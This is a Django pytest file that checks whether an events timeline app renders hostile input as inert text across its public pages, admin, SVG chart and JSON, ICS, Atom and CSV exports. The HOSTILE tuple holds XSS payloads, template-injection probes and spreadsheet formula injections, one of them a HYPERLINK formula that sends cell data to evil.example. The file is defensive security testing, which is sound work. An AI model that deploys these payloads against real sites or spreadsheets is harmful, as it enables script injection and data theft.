"""Hostile text in every field a reader sees is shown as text everywhere and runs nowhere.

One builder stores a dataset whose sources, events, actors, aliases and quotes carry
script tags, attribute breakers, javascript: URLs, template syntax and spreadsheet
formulas; each surface (pages, fragment, chart, admin, every export) is then read back
with a parser, never by eye.
"""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.urls import reverse

from events.admin import MERGE_AT_MOST
from events.models import (
    Actor,
    ActorAlias,
    Claim,
    Event,
    EventActor,
    EventRedirect,
    ReviewStatus,
    Source,
)
from events.timeline.selectors import TIMELINE_PAGE_SIZE
from tests.tools import html_errors

pytestmark = pytest.mark.django_db

# The ones calling window.__pwned show the browser test a script ran; alert() opens a dialog.
# As many as the timeline shows on its first page, so every one is on it.
HOSTILE = (
    "<script>alert(1)</script>",
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror=alert(1)>',
    '"><img src=x onerror="window.__pwned=1">',
    "' onmouseover='alert(1)",
    "' autofocus onfocus='window.__pwned=1' x='",
    "<svg onload=window.__pwned=1>",
    "javascript:alert(1)",
    " JaVaScRiPt:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "{{ 7|add:1 }}",
    "{% debug %}",
    "${7*7}",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "]]>--><script>window.__pwned=1</script><![CDATA[<!--",
    "line\u2028separator\u2029paragraph",
    "page\x0cbreak",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
)
# A spreadsheet reads a cell starting with one of these as a formula.
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 has no way to write these; every other character must come back from the feed,
# line breaks as XML reads them (a carriage return, alone or before a newline, as "\n").
XML_INVALID = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# RFC 5545 TEXT allows no control character but tab and escaped newlines.
ICS_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
LINE_BREAK = re.compile(r"\r\n?")
PREFIX = "Report: "


@dataclass
class HostileDataset:
    """Row i of each list carries HOSTILE[i] in every text field a reader sees."""

    actors: list[Actor] = field(default_factory=list)
    sources: list[Source] = field(default_factory=list)
    events: list[Event] = field(default_factory=list)
    claims: list[Claim] = field(default_factory=list)


def build_hostile_dataset() -> HostileDataset:
    """Verified rows only (the public pages show them); event i is planned, so the calendar
    lists it too, has actor i as initiator and actor i+1 as recipient, and event i-1 as
    its parent; claim i quotes HOSTILE[i] from source i, whose text is built from all the
    hostile strings."""
    assert len(HOSTILE) <= TIMELINE_PAGE_SIZE
    data = HostileDataset()
    verified = ReviewStatus.VERIFIED
    for i, hostile in enumerate(HOSTILE):
        actor = Actor.objects.create(
            name=hostile,
            slug=f"hostile-actor-{i}",
            kind="person",
            title=hostile,
            description=hostile,
            review_status=verified,
        )
        ActorAlias.objects.create(actor=actor, text=hostile)
        others = " ".join(HOSTILE[i + 1 :] + HOSTILE[:i])
        data.actors.append(actor)
        data.sources.append(
            Source.objects.create(
                title=hostile,
                slug=f"hostile-source-{i}",
                publisher=hostile,
                url=hostile,
                origin=hostile,
                text=f"{PREFIX}{hostile}\n\n{others}",
            )
        )
    for i, hostile in enumerate(HOSTILE):
        event = Event.objects.create(
            title=hostile,
            slug=f"hostile-event-{i}",
            summary=hostile,
            event_type="CONSULT",
            mode="phone",
            contexts=["diplomatic"],
            status="planned",
            date_edtf=f"2021-05-{i + 1:02d}",
            date_phrase=hostile,
            location=hostile,
            parent=data.events[-1] if data.events else None,
            review_status=verified,
        )
        EventActor.objects.create(event=event, actor=data.actors[i], role="initiator")
        recipient = data.actors[(i + 1) % len(HOSTILE)]
        EventActor.objects.create(event=event, actor=recipient, role="recipient")
        source = data.sources[i]
        start = len(PREFIX)
        claim = Claim.objects.create(
            source=source,
            start=start,
            end=start + len(hostile),
            quote=hostile,
            event=event,
            attributed_to=data.actors[i],
            kind="direct-quote",
            review_status=verified,
            extraction={"rule": hostile},
        )
        claim.actors.set([data.actors[i]])
        # date_display is derived on save: only data written around the app can hold
        # anything else, and the pages must be safe with that too.
        Event.objects.filter(pk=event.pk).update(date_claim=claim, date_display=hostile)
        event.refresh_from_db()
        data.events.append(event)
        data.claims.append(claim)
    EventRedirect.objects.create(old_slug="hostile-old", event=data.events[0])
    return data


@pytest.fixture
def hostile():
    return build_hostile_dataset()


# Reading HTML back


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    # The enclosing elements' tags, outermost first.
    ancestors: tuple[str, ...]


class Markup(HTMLParser):
    """Every element with its attributes, and the text a reader sees (text nodes and the
    attributes that show text), entities decoded."""

    # HTML's void elements, and the SVG ones the chart closes itself ("<rect/>").
    VOID = frozenset({
        "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr", "circle", "rect", "path", "line", "stop",
    })  # fmt: skip
    SHOWN_ATTRIBUTES = ("title", "value", "aria-label", "alt", "placeholder")

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[tuple[str, tuple[str, ...]]] = []
        self._open: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append(Element(tag, attributes, tuple(self._open)))
        self.texts += [(attributes[name], ()) for name in self.SHOWN_ATTRIBUTES if name in attrs]
        if tag not in self.VOID:
            self._open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self._open.pop()

    def handle_endtag(self, tag):
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data):
        self.texts.append((data, tuple(self._open)))

    @property
    def shown(self) -> str:
        # Separated, so no string can seem present by spanning two text nodes.
        return "\x00".join(text for text, _ in self.texts)


def csp_directives(response) -> dict[str, list[str]]:
    header = response.headers["Content-Security-Policy"]
    directives = {}
    for part in header.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


def csp_nonce(response) -> str | None:
    """The nonce script-src allows; Django names one only when the page used it (an htmx
    fragment, its scripts already loaded by the page, has none)."""
    nonces = [
        value[len("'nonce-") : -1]
        for value in csp_directives(response)["script-src"]
        if value.startswith("'nonce-")
    ]
    assert len(nonces) <= 1, response.headers["Content-Security-Policy"]
    return nonces[0] if nonces else None


def assert_strict_csp(response) -> None:
    policy = csp_directives(response)
    assert "'self'" in policy["script-src"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    everything = [value for values in policy.values() for value in values]
    assert not {"'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*"} & set(everything)


_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")


def _browser_url(value: str) -> str:
    # Browsers drop tabs and newlines anywhere in a URL and C0 controls and spaces at its
    # ends before reading its scheme.
    return re.sub(r"[\t\n\r]", "", value).strip("\x00- ").lower()


def assert_inert(response) -> Markup:
    """The page as an HTML parser reads it holds no script, handler or link the data put
    there: every script and style is the app's own (a /static/ source, or the nonce the
    CSP header allows), no element has an event handler or inline style, no URL
    attribute runs script, and nothing loads from outside the app."""
    assert_strict_csp(response)
    nonce = csp_nonce(response)
    styles_by_nonce = f"'nonce-{nonce}'" in csp_directives(response).get("style-src", [])
    markup = Markup(response.content.decode())
    for element in markup.elements:
        attrs = element.attrs
        assert not [name for name in attrs if name.startswith("on")], element
        assert "style" not in attrs, element  # style-src allows no inline styles
        for name in _URL_ATTRIBUTES:
            if name in attrs:
                scheme = _browser_url(attrs[name]).partition(":")[0]
                assert scheme not in {"javascript", "vbscript", "data"}, element
        if "src" in attrs:
            assert attrs["src"].startswith(("/static/", "/admin/")), element
        if "nonce" in attrs:
            assert nonce and attrs["nonce"] == nonce, element
        if element.tag == "script":
            own = attrs.get("src", "").startswith("/static/")
            assert own or (nonce and attrs.get("nonce") == nonce), element
        if element.tag == "style":
            assert styles_by_nonce and nonce and attrs.get("nonce") == nonce, element
        assert element.tag not in {"iframe", "frame", "object", "embed", "base"}, element
    return markup


def _words(text: str) -> str:
    return " ".join(text.split())


def assert_shown_as_text(markup: Markup, strings, *, words: bool = False) -> None:
    """Each string is in the page's text; only as its words, with `words` (admin pages
    show some names through truncatewords, which rejoins them with single spaces)."""
    if words:
        shown = "\x00".join(_words(text) for text, _ in markup.texts)
        strings = [_words(text) for text in strings]
    else:
        shown = markup.shown
    missing = [text for text in strings if text not in shown]
    assert not missing, missing


def get_page(client, url: str, **headers):
    response = client.get(url, headers=headers)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("text/html")
    return response


def test_admin_login_page_is_under_the_strict_csp(client):
    response = get_page(client, reverse("admin:login"))
    markup = assert_inert(response)
    assert [e for e in markup.elements if e.tag == "link" and e.attrs.get("nonce")]


# The builder


def test_every_hostile_claim_is_a_true_span_of_its_source(hostile):
    for claim, text in zip(hostile.claims, HOSTILE, strict=True):
        claim.full_clean()
        assert claim.source.text[claim.start : claim.end] == claim.quote == text
    event = Event.objects.get(pk=hostile.events[3].pk)
    assert event.date_display == event.title == HOSTILE[3]


# Public pages


def test_timeline_shows_every_hostile_string_as_text(client, hostile):
    markup = assert_inert(get_page(client, reverse("events:event-list")))
    assert_shown_as_text(markup, HOSTILE)
    # Each event's title, as a link to it, holds exactly the stored text.
    titles = [text for text, ancestors in markup.texts if ancestors[-2:] == ("h4", "a")]
    assert sorted(titles) == sorted(HOSTILE)


def test_timeline_fragment_shows_every_hostile_string_as_text(client, hostile):
    response = get_page(client, reverse("events:event-list"), HX_Request="true")
    assert b"<html" not in response.content  # the fragment alone
    assert_shown_as_text(assert_inert(response), HOSTILE)


def test_chart_marks_are_labelled_with_the_titles_as_text(client, hostile):
    markup = assert_inert(get_page(client, reverse("events:event-list")))
    labels = [text for text, ancestors in markup.texts if ancestors[-3:] == ("svg", "g", "a")]
    svg_titles = [
        text for text, ancestors in markup.texts if "svg" in ancestors and ancestors[-1] == "title"
    ]
    for hostile_text in HOSTILE:
        assert any(label.startswith(f"{hostile_text} — ") for label in svg_titles), hostile_text
    assert not labels  # nothing but the <title> is text inside a mark
    inside_chart = [element for element in markup.elements if "svg" in element.ancestors]
    assert {element.tag for element in inside_chart} <= {
        "title", "desc", "defs", "lineargradient", "stop", "mask", "rect", "g", "line",
        "text", "a", "circle", "path",
    }  # fmt: skip


@pytest.mark.parametrize("kind", ["event", "source", "actor"])
def test_every_detail_page_shows_its_hostile_strings_as_text(client, hostile, kind):
    rows = {"event": hostile.events, "source": hostile.sources, "actor": hostile.actors}[kind]
    for i, row in enumerate(rows):
        markup = assert_inert(get_page(client, row.get_absolute_url()))
        assert_shown_as_text(markup, [HOSTILE[i]])
        headings = [text for text, ancestors in markup.texts if ancestors[-1:] == ("h1",)]
        assert headings == [HOSTILE[i]]
        title = next(text for text, ancestors in markup.texts if ancestors[-1:] == ("title",))
        assert title == f"{HOSTILE[i]} · Diplo"


def test_event_page_shows_its_neighbours_and_evidence_as_text(client, hostile):
    markup = assert_inert(get_page(client, hostile.events[5].get_absolute_url()))
    # Its parent and child, its recipient, its quote's source and the date's words.
    assert_shown_as_text(markup, HOSTILE[4:7])
    shown = markup.shown
    assert f"Read from “{HOSTILE[5]}” in " in shown
    assert f"attributed to {HOSTILE[5]}" in shown


def test_pages_holding_hostile_text_are_still_valid_html(client, hostile, tmp_path):
    urls = [reverse("events:event-list"), reverse("events:source-list")]
    urls += [reverse("events:actor-list"), reverse("events:event-list") + "?from=%3Cscript%3E"]
    for row in [*hostile.events, *hostile.sources, *hostile.actors]:
        urls.append(row.get_absolute_url())
    assert html_errors({url: client.get(url).content for url in urls}, tmp_path) == []


@pytest.mark.parametrize("name", ["events:source-list", "events:actor-list"])
def test_lists_show_every_hostile_string_as_text(client, hostile, name):
    assert_shown_as_text(assert_inert(get_page(client, reverse(name))), HOSTILE)


def test_a_source_url_that_is_not_http_is_shown_but_never_linked(client, hostile):
    for source in hostile.sources:
        markup = assert_inert(get_page(client, source.get_absolute_url()))
        links = [e.attrs["href"] for e in markup.elements if e.tag == "a" and "href" in e.attrs]
        assert source.url not in links
        originals = [text for text, ancestors in markup.texts if ancestors[-1:] == ("dd",)]
        assert source.url in originals


def test_an_http_source_url_is_linked_escaped(client):
    url = 'https://example.org/a?q="><script>alert(1)</script>'
    Source.objects.create(title="Linked", slug="linked", url=url, text="Some text.")
    markup = assert_inert(get_page(client, reverse("events:source-detail", args=["linked"])))
    [link] = [e for e in markup.elements if e.tag == "a" and e.attrs.get("href") == url]
    assert link.attrs["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("hostile_text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_filter_values_are_echoed_as_text(client, hostile_text):
    response = client.get(reverse("events:event-list"), {"q": hostile_text, "from": hostile_text})
    assert response.status_code == 400
    markup = assert_inert(response)
    fields = {e.attrs["name"]: e.attrs.get("value") for e in markup.elements if e.tag == "input"}
    assert fields["q"] == fields["from"] == hostile_text
    assert_shown_as_text(markup, [f"“{hostile_text.strip()}”"])


# Admin


# Each model's rows, with the hostile text each row's change form must show.
ADMIN_ROWS = {
    Actor: lambda data: zip(data.actors, HOSTILE, strict=True),
    ActorAlias: lambda data: zip(ActorAlias.objects.order_by("actor_id"), HOSTILE, strict=True),
    Source: lambda data: zip(data.sources, HOSTILE, strict=True),
    Event: lambda data: zip(data.events, HOSTILE, strict=True),
    EventActor: lambda data: [(row, row.actor.name) for row in EventActor.objects.all()],
    Claim: lambda data: zip(data.claims, HOSTILE, strict=True),
    EventRedirect: lambda data: [(row, row.event.title) for row in EventRedirect.objects.all()],
}


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.org")


@pytest.fixture
def superuser_client(client, superuser):
    client.force_login(superuser)
    return client


@pytest.mark.parametrize("model", ADMIN_ROWS, ids=lambda model: model.__name__)
def test_admin_changelist_and_change_forms_show_hostile_text_as_text(
    superuser_client, hostile, model
):
    name = model._meta.model_name
    rows = list(ADMIN_ROWS[model](hostile))
    markup = assert_inert(get_page(superuser_client, reverse(f"admin:events_{name}_changelist")))
    # A changelist shows its cells stripped of leading and trailing white space (Django's
    # display_for_value); the change forms show each value exactly.
    assert_shown_as_text(markup, {text.strip() for _, text in rows})
    for row, text in rows:
        url = reverse(f"admin:events_{name}_change", args=[row.pk])
        assert_shown_as_text(assert_inert(get_page(superuser_client, url)), [text])


@pytest.mark.parametrize("model", ADMIN_ROWS, ids=lambda model: model.__name__)
def test_admin_history_delete_and_add_pages_show_hostile_text_as_text(
    superuser_client, hostile, model
):
    name = model._meta.model_name
    for row, _ in ADMIN_ROWS[model](hostile):
        for view in ["history", "delete"]:
            url = reverse(f"admin:events_{name}_{view}", args=[row.pk])
            markup = assert_inert(get_page(superuser_client, url))
            assert_shown_as_text(markup, [str(row)], words=True)
    assert_inert(get_page(superuser_client, reverse(f"admin:events_{name}_add")))


def test_admin_recent_actions_show_hostile_names_as_text(superuser_client, superuser, hostile):
    rows = hostile.events[-5:] + hostile.actors[-5:]
    for row in rows:
        LogEntry.objects.log_actions(superuser.pk, [row], CHANGE, change_message=row.title)
    markup = assert_inert(get_page(superuser_client, reverse("admin:index")))
    assert_shown_as_text(markup, [str(row) for row in rows], words=True)


def test_admin_merge_page_shows_hostile_names_as_text(superuser_client, hostile):
    for model, every_row in [(Event, hostile.events), (Actor, hostile.actors)]:
        url = reverse(f"admin:events_{model._meta.model_name}_changelist")
        # A merge takes at most MERGE_AT_MOST rows: every name, a merge page at a time.
        for start in range(0, len(every_row), MERGE_AT_MOST):
            rows = every_row[start : start + MERGE_AT_MOST]
            response = superuser_client.post(
                url, {"action": "merge", "_selected_action": [row.pk for row in rows]}
            )
            assert response.status_code == 200
            assert_shown_as_text(assert_inert(response), [str(row) for row in rows])


def test_admin_names_the_stored_duplicate_of_an_article_as_text(superuser_client, hostile):
    source = hostile.sources[HOSTILE.index('"><img src=x onerror=alert(1)>')]
    url = reverse("admin:events_source_add_article")
    response = superuser_client.post(url, {"text": source.text})
    assert response.status_code == 200
    markup = assert_inert(response)
    assert_shown_as_text(markup, ["pasted in admin: this text is already stored as", source.title])
    edit = reverse("admin:events_source_change", args=[source.pk])
    assert [e for e in markup.elements if e.tag == "a" and e.attrs.get("href") == edit]


def test_admin_shows_a_claim_in_its_text_and_its_extraction_as_text(superuser_client, hostile):
    claim = hostile.claims[2]
    url = reverse("admin:events_claim_change", args=[claim.pk])
    markup = assert_inert(get_page(superuser_client, url))
    marked = [text for text, ancestors in markup.texts if ancestors[-1:] == ("mark",)]
    assert marked == [HOSTILE[2]]
    assert_shown_as_text(markup, [json.dumps({"rule": HOSTILE[2]}, ensure_ascii=False)])


def test_admin_never_links_a_source_url_that_is_not_http(superuser_client, hostile):
    for source in hostile.sources:
        url = reverse("admin:events_source_change", args=[source.pk])
        markup = assert_inert(get_page(superuser_client, url))
        [field] = [e for e in markup.elements if e.attrs.get("name") == "url"]
        assert field.attrs["value"] == source.url


# Exports


def _event(hostile: HostileDataset, slug: str) -> Event:
    return next(event for event in hostile.events if event.slug == slug)


def test_json_values_round_trip_exactly(client, hostile):
    data = json.loads(client.get(reverse("events:export-json")).content)
    assert data["count"] == len(HOSTILE)
    for record in data["results"]:
        event = _event(hostile, record["slug"])
        i = hostile.events.index(event)
        assert record["title"] == record["summary"] == record["location"] == HOSTILE[i]
        assert record["date"]["display"] == HOSTILE[i]
        assert [actor["name"] for actor in record["actors"]] == [
            HOSTILE[i],
            HOSTILE[(i + 1) % len(HOSTILE)],
        ]
        [claim] = record["claims"]
        assert claim["quote"] == claim["source"]["title"] == claim["source"]["origin"]
        assert claim["quote"] == HOSTILE[i]


def test_jsonl_values_round_trip_exactly(client, hostile):
    response = client.get(reverse("events:export-plover"))
    body = b"".join(response.streaming_content).decode()
    # JSON Lines end records at "\n" only; a raw U+2028 inside a record is not a break.
    lines = body.split("\n")
    assert lines.pop() == ""
    assert len(lines) == len(HOSTILE)
    for line in lines:
        record = json.loads(line)
        i = hostile.events.index(_event(hostile, record["id"]))
        assert record["location"] == HOSTILE[i]
        assert [actor["name"] for actor in record["actor"]] == [HOSTILE[i]]
        recipient = HOSTILE[(i + 1) % len(HOSTILE)]
        assert [actor["name"] for actor in record["recipient"]] == [recipient]


def test_timelinejs_text_is_escaped_html_that_reads_back_exactly(client, hostile):
    data = json.loads(client.get(reverse("events:export-timelinejs")).content)
    assert len(data["events"]) == len(HOSTILE)
    for slide in data["events"]:
        i = hostile.events.index(_event(hostile, slide["unique_id"]))
        # TimelineJS renders these as HTML: they must hold text and no element.
        for value in (slide["text"]["headline"], slide["text"]["text"], slide["display_date"]):
            markup = Markup(value)
            assert markup.elements == []
            assert markup.shown == HOSTILE[i]


def _ics_unescape(value: str) -> str:
    escapes = {"\\": "\\", ";": ";", ",": ",", "n": "\n", "N": "\n"}
    return re.sub(r"\\(.)", lambda match: escapes[match[1]], value)


ICS_PROPERTIES = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "X-WR-CALNAME", "UID", "DTSTAMP",
    "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "CATEGORIES", "STATUS", "TRANSP", "URL",
    "LOCATION",
}  # fmt: skip


def _ics_text(text: str) -> str:
    """What an iCalendar TEXT value can carry of `text`: line breaks as newlines."""
    return ICS_CONTROL.sub("", LINE_BREAK.sub("\n", text))


def test_ics_values_are_escaped_so_no_text_starts_a_property(client, hostile):
    raw = client.get(reverse("events:export-ics")).content.decode()
    assert raw.endswith("\r\n")
    lines = raw.replace("\r\n ", "").split("\r\n")[:-1]
    assert not [line for line in lines if "\r" in line or "\n" in line]
    names = [re.match(r"[A-Z-]+(?=[:;])", line) for line in lines]
    assert all(names), [line for line, name in zip(lines, names, strict=True) if not name]
    assert {name[0] for name in names} <= ICS_PROPERTIES
    events = [{}]
    for line in lines:
        name, _, value = line.partition(":")
        events[-1][name] = value
        if line == "END:VEVENT":
            events.append({})
    events = [event for event in events if "UID" in event]
    assert len(events) == len(HOSTILE)
    for event in events:
        i = hostile.events.index(_event(hostile, event["UID"].removesuffix("@diplo")))
        text = _ics_text(HOSTILE[i])
        for name in ["SUMMARY", "LOCATION"]:
            # A ";" or "," not escaped would split the value into several.
            assert not re.search(r"(?<!\\)(\\\\)*[;,]", event[name]), event[name]
            assert _ics_unescape(event[name]) == text
        assert _ics_unescape(event["DESCRIPTION"]) == f"{text}\ndate: {text}"


ATOM = "{http://www.w3.org/2005/Atom}"


def test_atom_feed_is_well_formed_and_its_text_reads_back(client, hostile):
    response = client.get(reverse("events:export-atom"))
    assert response.status_code == 200
    feed = ET.fromstring(response.content)
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == len(HOSTILE)
    for entry in entries:
        slug = entry.find(f"{ATOM}link").get("href").rstrip("/").rpartition("/")[2]
        i = hostile.events.index(_event(hostile, slug))
        text = LINE_BREAK.sub("\n", XML_INVALID.sub("", HOSTILE[i]))
        assert entry.findtext(f"{ATOM}title") == text
        summary = entry.find(f"{ATOM}summary")
        assert summary.get("type") == "html"
        markup = Markup(summary.text)
        assert {element.tag for element in markup.elements} == {"p"}
        assert [piece for piece, _ in markup.texts] == [text, text]  # date_display, summary


def _neutralised(value: str) -> str:
    return f"'{value}" if value.startswith(FORMULA_FIRST) else value


def test_csv_cells_are_neutralised_or_read_back_exactly(client, hostile):
    response = client.get(reverse("events:export-csv"))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert not [cell for cell in row.values() if cell.startswith(FORMULA_FIRST)], row
        i = hostile.events.index(_event(hostile, row["slug"]))
        recipient = HOSTILE[(i + 1) % len(HOSTILE)]
        assert row["title"] == row["location"] == row["date_display"] == _neutralised(HOSTILE[i])
        assert row["actors"] == _neutralised(f"{HOSTILE[i]} (initiator); {recipient} (recipient)")
